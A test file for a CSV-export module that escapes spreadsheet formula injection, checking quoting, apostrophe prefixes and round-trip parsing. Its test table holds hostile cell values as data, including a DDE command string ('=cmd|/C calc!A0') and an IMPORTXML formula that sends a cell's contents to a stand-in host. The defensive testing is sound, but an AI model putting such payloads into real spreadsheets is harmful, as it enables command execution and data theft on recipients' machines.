import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { csvCell, csvLine, unquoteFormula } from './csv-safety.ts'

/** A minimal RFC 4180 parser of one record. */
function parseLine(line: string): string[] {
  expect(line.endsWith('\r\n')).toBe(true)
  const cells: string[] = []
  for (const [, quoted, plain] of `,${line.slice(0, -2)}`.matchAll(/,(?:"((?:[^"]|"")*)"|([^",\r\n]*))/gy))
    cells.push(quoted?.replaceAll('""', '"') ?? plain ?? '')
  return cells
}

const dangerous = fc.array(
  fc.constantFrom("'", '=', '+', '-', '@', '\t', '\r', '\n', '\0', '"', ',', 'a', '1', ' ', '＝', '＋', '－', '＠'),
  {
    maxLength: 6,
  },
)
const cell = fc.oneof(
  dangerous.map((parts) => parts.join('')),
  fc.string({ unit: 'binary' }),
)

describe('CSV for spreadsheets', () => {
  test.each([
    ['=1+1', "'=1+1"],
    ['=cmd|/C calc!A0', "'=cmd|/C calc!A0"],
    ['=HYPERLINK("http://a.test","x")', `"'=HYPERLINK(""http://a.test"",""x"")"`],
    ['=IMPORTXML(CONCAT("http://a.test?v=",A1),"//a")', `"'=IMPORTXML(CONCAT(""http://a.test?v="",A1),""//a"")"`],
    ['@SUM(1)', "'@SUM(1)"],
    ['@SUM(1+1)*cmd|x', "'@SUM(1+1)*cmd|x"],
    ['+1-2', "'+1-2"],
    ['+919876543210', "'+919876543210"],
    ['-2+3', "'-2+3"],
    ['--', "'--"],
    ['\t=1', "'\t=1"],
    ['\tx', "'\tx"],
    ['\r=1', `"'\r=1"`],
    ['\n=1', `"'\n=1"`],
    ['\0=1', "'\0=1"],
    ["'=1", "''=1"],
    ["''=1", "'''=1"],
    ["'+91", "''+91"],
    ["'\n", `"''\n"`],
    ['＝1+1', "'＝1+1"],
    ['＋919876543210', "'＋919876543210"],
    ['－2+3', "'－2+3"],
    ['＠SUM(1)', "'＠SUM(1)"],
    ["'＝1", "''＝1"],
    ['\t＝1', "'\t＝1"],
    ['\r＠SUM(1)', `"'\r＠SUM(1)"`],
    ['1＝1', '1＝1'],
    ['=', "'="],
    ['-', "'-"],
    ['=","', `"'="","""`],
    ["O'Brien", "O'Brien"],
    ["'quoted'", "'quoted'"],
    ["'", "'"],
    ["''", "''"],
    ['1+1', '1+1'],
    [' =1', ' =1'],
    ['a,b', '"a,b"'],
    ['a\nb', '"a\nb"'],
    ['say "hi"', '"say ""hi"""'],
    ['a;b|c', 'a;b|c'],
    ['', ''],
  ])('%j is written as %j', (text, written) => {
    expect(csvCell(text)).toBe(written)
  })

  test('no written cell begins like a formula', () => {
    fc.assert(
      fc.property(cell, (text) => {
        expect(csvCell(text).replace(/^"/, '')).not.toMatch(/^[=+\-@\t\r\n\0＝＋－＠]/)
      }),
    )
  })

  test('every record reads back as it was', () => {
    fc.assert(
      fc.property(fc.array(cell, { minLength: 1, maxLength: 5 }), (cells) => {
        expect(parseLine(csvLine(cells)).map(unquoteFormula)).toEqual(cells)
      }),
      { numRuns: 5_000 },
    )
  })

  test('an apostrophe that is not a protection is kept', () => {
    for (const text of ["'hello", "O'Brien", "'", "''", "' =1"]) expect(unquoteFormula(text)).toBe(text)
  })

  test('a record of one empty cell is not a blank line', () => {
    expect(csvLine([''])).toBe('""\r\n')
  })
})
